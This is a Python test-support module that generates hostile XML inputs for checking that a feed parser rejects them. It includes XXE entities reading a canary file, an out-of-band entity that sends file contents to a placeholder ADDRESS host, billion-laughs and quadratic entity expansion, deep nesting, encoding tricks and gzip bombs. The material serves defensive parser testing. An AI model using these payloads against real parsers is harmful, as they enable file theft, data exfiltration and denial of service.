"""What XML parsers are attacked with: each makes an attack of a good file."""

import gzip
import re
from collections.abc import Callable
from dataclasses import dataclass

_DECLARATION = re.compile(rb"^<\?xml[^?]*\?>\s*")
_VALUE = re.compile(rb'="[^"]*"')
SECRET = "CANARY-1863-SECRET"
"""What stands in a file that nobody may read."""


@dataclass(frozen=True)
class Target:
    """A good file, and where an attacker would like the parser to go: a file to read, an address to ask."""

    data: bytes
    secret: str
    address: str


Attack = Callable[[Target], bytes]


def body_of(data: bytes) -> bytes:
    """A document without its declaration."""
    return _DECLARATION.sub(b"", data, count=1)


def doctype(subset: str, use: str = "") -> Attack:
    """A document type; ``use`` is what the first attribute and the first text say then."""

    def attack(target: Target) -> bytes:
        body = body_of(target.data)
        if use:
            body = _VALUE.sub(b'="%s"' % use.encode(), body, count=1)
            body = body.replace(b">", b">" + use.encode(), 1)
        told = subset.replace("SECRET", target.secret).replace("ADDRESS", target.address)
        return b'<?xml version="1.0" encoding="UTF-8"?>\n' + told.encode() + b"\n" + body

    return attack


def inside(text: Callable[[Target], bytes]) -> Attack:
    """Something more inside of the root."""
    return lambda target: target.data.replace(b">\n", b">\n" + text(target), 2) if b">\n" in target.data else (
        re.sub(rb"(<[A-Za-z][^<>]*[^/?]>)", lambda m: m[1] + text(target), target.data, count=1)
    )  # fmt: skip


def at_root(attributes: Callable[[Target], bytes]) -> Attack:
    """More attributes of the root."""
    return lambda target: re.sub(
        rb"<([A-Za-z][\w:.-]*)", lambda m: m[0] + b" " + attributes(target), target.data, count=1
    )


def encoded(encoding: str, declared: str, subset: str = "") -> Attack:
    """Another encoding than it says, or than anybody expects."""

    def attack(target: Target) -> bytes:
        told = f'<?xml version="1.0" encoding="{declared}"?>{subset.replace("SECRET", target.secret)}'
        return (told + body_of(target.data).decode("utf-8", "replace")).encode(encoding, "replace")

    return attack


def _laughs(levels: int, each: int) -> str:
    lines = ['<!ENTITY e0 "xxxxxxxxxx">']
    lines += [f'<!ENTITY e{n} "{f"&e{n - 1};" * each}">' for n in range(1, levels + 1)]
    return f"<!DOCTYPE a [{''.join(lines)}]>"


def _many(one: bytes, count: int) -> Callable[[Target], bytes]:
    return lambda _: b"".join(one % n for n in range(count)) if b"%d" in one else one * count


def _hidden(target: Target) -> bytes:
    """Behind more than a look at the file's head shows."""
    text = b"<!-- " + b"x" * 70_000 + b' --><!DOCTYPE a [<!ENTITY e "xxx">]>'
    return b'<?xml version="1.0"?>' + text + body_of(target.data)


_SUBSET = '<!DOCTYPE a [<!ENTITY e SYSTEM "file://SECRET">]>'

REFUSED: dict[str, Attack] = {
    "a billion laughs": doctype(_laughs(9, 10), "&e9;"),
    "quadratic blow-up": doctype(f'<!DOCTYPE a [<!ENTITY e "{"x" * 100_000}">]>', "&e;" * 3_000),
    "an entity that is a file": doctype('<!DOCTYPE a [<!ENTITY e SYSTEM "file://SECRET">]>', "&e;"),
    "an entity by http": doctype('<!DOCTYPE a [<!ENTITY e SYSTEM "http://ADDRESS/e">]>', "&e;"),
    "an entity by ftp": doctype('<!DOCTYPE a [<!ENTITY e SYSTEM "ftp://ADDRESS/e">]>', "&e;"),
    "an entity that is a relative path": doctype('<!DOCTYPE a [<!ENTITY e SYSTEM "../secret.txt">]>', "&e;"),
    "a parameter entity by http": doctype('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://ADDRESS/p"> %p;]>'),
    "a parameter entity that is a file": doctype('<!DOCTYPE a [<!ENTITY % p SYSTEM "file://SECRET"> %p;]>'),
    "parameter entities in each other": doctype(
        "<!DOCTYPE a [<!ENTITY % a \"<!ENTITY e 'x'>\"> <!ENTITY % b \"%a;%a;%a;\"> %b;]>", "&e;"
    ),
    "out of band": doctype(
        "<!DOCTYPE a [<!ENTITY % f SYSTEM \"file://SECRET\"><!ENTITY % a \"<!ENTITY e SYSTEM 'http://ADDRESS/?%f;'>\">%a;]>",
        "&e;",
    ),
    "a DTD by http": doctype('<!DOCTYPE PutDataRequest SYSTEM "http://ADDRESS/x.dtd">'),
    "a public DTD": doctype('<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://ADDRESS/x.dtd">'),
    "a DTD that is a file": doctype('<!DOCTYPE a SYSTEM "file://SECRET">'),
    "an attribute's default is an entity": doctype(
        '<!DOCTYPE PutDataRequest [<!ENTITY e SYSTEM "file://SECRET"><!ATTLIST PutDataRequest x CDATA "&e;">]>'
    ),
    "entities of each other": doctype('<!DOCTYPE a [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
    "an entity of itself": doctype('<!DOCTYPE a [<!ENTITY a "&a;">]>', "&a;"),
    "an unparsed entity": doctype(
        '<!DOCTYPE a [<!NOTATION n SYSTEM "http://ADDRESS/n"><!ENTITY e SYSTEM "http://ADDRESS/e" NDATA n>]>'
    ),
    "a document type behind the head": _hidden,
    "a document type in UTF-16": encoded("utf-16", "UTF-16", _SUBSET),
    "a document type in UTF-16 without a mark": encoded("utf-16-le", "UTF-16", _SUBSET),
    "a document type in UTF-7": encoded("utf-7", "UTF-7", _SUBSET),
    "a document type in EBCDIC": encoded("cp037", "IBM037", _SUBSET),
    "EBCDIC by its name": encoded("utf-8", "IBM037"),
    "UTF-16 by its name": encoded("utf-8", "UTF-16"),
    "UTF-32": encoded("utf-32", "UTF-32"),
    "an encoding that nobody knows": encoded("utf-8", "x-user-defined"),
    "an encoding of Python's": encoded("utf-8", "idna"),
    "bytes to be unpacked, as an encoding": encoded("utf-8", "zlib_codec"),
    "an unclosed comment": inside(lambda _: b"<!-- " + b"- " * 500_000),
    "an unclosed CDATA": inside(lambda _: b"<![CDATA[" + b"]] " * 500_000),
    "a hundred thousand levels": inside(lambda _: b"<a>" * 100_000 + b"</a>" * 100_000),
    "levels that never end": inside(lambda _: b"<a>" * 1_000_000),
    "an attribute of 5 MB": at_root(lambda _: b'x="' + b"x" * 5_000_000 + b'"'),
    "a name of 5 MB": inside(lambda _: b"<" + b"n" * 5_000_000 + b"/>"),
    "three hundred thousand attributes": at_root(_many(b'a%d="" ', 300_000)),
    "three million elements": inside(lambda _: b"<a/>" * 3_000_000),
    "elements with attributes": inside(lambda _: b'<a b=""/>' * 3_000_000),
    "NULs": lambda target: target.data.replace(b" ", b"\0", 5),
    "only NULs": lambda _: b"\0" * 1_000_000,
    "overlong UTF-8": inside(lambda _: b"\xc0\xbc\xc0\xaf"),
    "surrogates": inside(lambda _: b"\xed\xa0\x80"),
    "control characters of XML 1.1": lambda target: b'<?xml version="1.1"?>'
    + body_of(target.data).replace(b" ", b' x="&#1;" ', 1),
    "a second document": lambda target: target.data + target.data,
    "a gzip bomb": lambda _: gzip.compress(gzip_of_zeros(), mtime=0),
    "zeros in gzip": lambda _: gzip_of_zeros(),
    "spaces in gzip": lambda _: gzip.compress(b" " * (200 << 20), 1, mtime=0),
}  # fmt: skip
"""What is no feed file: the match is left out."""

HARMLESS: dict[str, Attack] = {
    "XInclude of a file": inside(
        lambda t: b'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file://%s"/>' % t.secret.encode()
    ),
    "XInclude by http": inside(
        lambda t: b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://%s/"/>' % t.address.encode()
    ),
    "a style sheet by http": lambda t: b'<?xml version="1.0"?><?xml-stylesheet href="http://%s/"?>' % t.address.encode()
    + body_of(t.data),
    "a schema by http": at_root(
        lambda t: b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x http://%s/x.xsd"'
        % t.address.encode()
    ),
    "a base by http": at_root(lambda t: b'xml:base="http://%s/"' % t.address.encode()),
    "instructions": inside(_many(b"<?php echo %d ?>", 50_000)),
    "CDATA": inside(_many(b"<![CDATA[ <Event> ]]>", 50_000)),
    "comments": inside(_many(b"<!-- %d -->", 50_000)),
    "a text of 20 MB": inside(lambda _: b"x" * 20_000_000),
    "ten thousand namespaces": at_root(_many(b'xmlns:a%d="x" ', 10_000)),
    "character references": inside(_many(b"&#%d;" % 65, 200_000)),
}  # fmt: skip
"""What a parser may pass over: the match is read as it is, or left out, and nothing else is touched."""


def gzip_of_zeros() -> bytes:
    """A stream of some hundred kilobytes that inflates to hundreds of megabytes."""
    return gzip.compress(b"\0" * (300 << 20), 1, mtime=0)
